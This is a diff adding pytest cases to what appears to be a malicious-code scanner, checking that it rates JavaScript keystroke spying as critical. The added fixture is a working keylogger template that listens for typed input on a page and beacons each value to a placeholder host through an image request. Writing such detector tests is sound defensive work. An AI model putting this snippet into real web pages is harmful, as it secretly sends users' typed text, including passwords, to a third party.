@@ -86,3 +86,22 @@ def test_an_installer_brings_a_release_as_a_dependency_would(
     )
     files = {"package.json": manifest, "install.js": INSTALLS % address}
     assert worst_of("dropper", program_of("npm", files)) is severity
+
+
+TYPED = (
+    "document.addEventListener('{event}', e => {{"
+    " new Image().src = 'https://a.example.invalid/?' + {what}; }});"
+)
+
+
+@pytest.mark.parametrize("event", ["keydown", "input", "submit"])
+def test_what_is_typed_anywhere_on_a_page(event: str) -> None:
+    assert worst_script("spying", TYPED.format(event=event, what="e.target.value")) is (
+        Severity.CRITICAL
+    )
+    assert worst_script("spying", TYPED.format(event=event, what="location.pathname")) is None
+
+
+def test_the_fields_of_a_page_are_read_for_whoever_starts_that() -> None:
+    text = f"exports.start = () => {{ {TYPED.format(event='input', what='e.target.value')} }};"
+    assert worst_script("spying", text) is None
